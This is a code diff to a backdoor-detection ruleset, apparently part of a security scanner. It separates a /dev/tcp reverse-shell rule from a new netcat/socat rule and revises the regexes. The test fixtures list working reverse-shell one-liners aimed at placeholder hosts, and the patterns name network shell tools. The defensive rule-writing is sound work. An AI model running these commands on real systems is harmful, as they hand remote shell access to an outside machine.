@@ -19,6 +19,7 @@ KEY_STORE = r"\bauthorized_keys2?\b"
 PUBLIC_KEY = r"\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\w{1,20}|sk-ssh-\S{1,40})\s{1,4}aaaa"
 
 _KEY_STORE_WORDS = (frozenset(("authorized",)),)
+_SHELLS = frozenset(("sh", "bash", "dash", "zsh", "cmd"))
 _PUBLIC_KEY_WORDS = (frozenset(("rsa", "dss", "ed25519", "ecdsa", "sk")),)
 
 BACKDOOR = (
@@ -110,19 +111,30 @@ BACKDOOR = (
         languages=("any",),
         reason="opens a shell to another machine",
         check=Holds(
-            pattern=r"(?:>\s?&|\bexec\s\d{1,3}<>)\s?/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/\S{1,60}\s{0,2}0[<>]&|"
-            r"\b(?:nc|ncat|netcat)\s[^\n|;]{0,60}?\s?-\w{0,4}[ec]\s{1,4}\S{0,16}(?:\b(?:ba|da|z)?sh|cmd\.exe)\b|"
-            r"\bsocat\s[^\n]{0,60}?\bexec:\S{0,16}sh\b",
-            needs=(frozenset(("tcp", "udp", "nc", "ncat", "netcat", "socat")),),
+            pattern=r"(?:>\s?&|\bexec\s\d{1,3}<>)\s?/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/\S{1,60}\s{0,2}0[<>]&",
+            needs=(frozenset(("tcp", "udp")),),
+        ),
+        stops=("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",),
+        passes=("timeout 1 bash -c '</dev/tcp/db/5432'",),
+    ),
+    Rule(
+        id="backdoor.netcat",
+        severity="critical",
+        languages=("any",),
+        reason="opens a shell to another machine",
+        check=Near(
+            first=pattern(r"\b(?:nc|ncat|netcat|socat)\b"),
+            second=pattern(
+                r"\s-\w{0,4}[ec]\s{1,4}\S{0,16}(?:\b(?:ba|da|z)?sh|cmd\.exe)\b|\bexec:\S{0,16}sh\b"
+            ),
+            needs=(frozenset(("nc", "ncat", "netcat", "socat")), _SHELLS),
+            reach=60,
         ),
         stops=(
-            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
             "nc 203.0.113.5 4444 -e /bin/bash",
-            "nc -e /bin/sh x.invalid 1",
+            "ncat -e /bin/sh x.invalid 1",
+            "socat tcp:x.invalid:1 exec:/bin/sh",
         ),
-        passes=(
-            "Use nc -z host 5432 to test whether the port is open.",
-            "timeout 1 bash -c '</dev/tcp/db/5432'",
-        ),
+        passes=("Use nc -z host 5432 to test whether the port is open.",),
     ),
 )
